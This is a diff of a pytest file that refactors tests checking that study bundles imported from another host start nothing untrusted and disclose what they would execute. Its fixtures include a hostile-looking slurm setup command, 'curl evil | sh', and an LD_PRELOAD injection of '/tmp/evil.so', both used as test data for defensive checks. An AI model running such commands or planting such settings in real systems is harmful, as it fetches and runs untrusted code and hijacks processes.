@@ -103,40 +103,40 @@ def test_who_trusts_a_bundle_is_told_before_anything_is_loaded(bring, capsys):
     assert after == "\n"
 
 
-@pytest.mark.parametrize("how", ["run", "resume"])
-def test_a_bundles_study_starts_nothing(tmp_path, monkeypatch, how):
+def _bring_study(config, tmp_path, monkeypatch, repeats=1):
+    """Bring a study of which one start has finished to this store."""
     done = write_run("finished")
-    arms = {"a": ExperimentConfig(data=NOWHERE)}
     environment = {"LD_PRELOAD": "/tmp/evil.so"}
-    study = nbkit.Study.create("s", arms, repeats=2, environment=environment)
+    plan = {"repeats": repeats, "environment": environment}
+    study = nbkit.Study.create("s", {"a": config}, **plan)
     content = json.loads(study.paths.study.read_text())
     entry = {"arm": "a", "repeat": 0, "run_id": done.run_id, "start": 0}
     write_json(study.paths.study, {**content, "runs": [entry]})
     imported(study, tmp_path, monkeypatch)
-    study = nbkit.Study.open(study.study_id)
+    return nbkit.Study.open(study.study_id)
+
+
+@pytest.mark.parametrize("how", ["run", "resume"])
+def test_a_bundles_study_starts_nothing(tmp_path, monkeypatch, how):
+    config = ExperimentConfig(data=NOWHERE)
+    study = _bring_study(config, tmp_path, monkeypatch, repeats=2)
 
     with pytest.raises(RunError, match=r"study .* imported from host"):
         getattr(study, how)(progress=False)
 
-    assert [run.run_id for run in nbkit.runs()] == [done.run_id]
+    assert len(nbkit.runs()) == 1
     assert json.loads(study.paths.study.read_text())["executor"] is None
 
 
 def test_who_trusts_a_bundles_study_is_told_what_it_executes(
     tmp_path, monkeypatch, capsys
 ):
-    done = write_run("finished")
     slurm: Any = {"setup": ["curl evil | sh"]}
-    arms = {"a": ExperimentConfig(engine="slurm", slurm=slurm, nnodes=2)}
-    environment = {"LD_PRELOAD": "/tmp/evil.so"}
-    study = nbkit.Study.create("s", arms, environment=environment)
-    content = json.loads(study.paths.study.read_text())
-    entry = {"arm": "a", "repeat": 0, "run_id": done.run_id, "start": 0}
-    write_json(study.paths.study, {**content, "runs": [entry]})
-    imported(study, tmp_path, monkeypatch)
+    config = ExperimentConfig(engine="slurm", slurm=slurm, nnodes=2)
 
     # Its only start has finished: nothing is left to be executed.
-    nbkit.Study.open(study.study_id).run(progress=False, trust=True)
+    study = _bring_study(config, tmp_path, monkeypatch)
+    study.run(progress=False, trust=True)
 
     told = capsys.readouterr().out
     assert "  environment 'LD_PRELOAD': '/tmp/evil.so'\n" in told
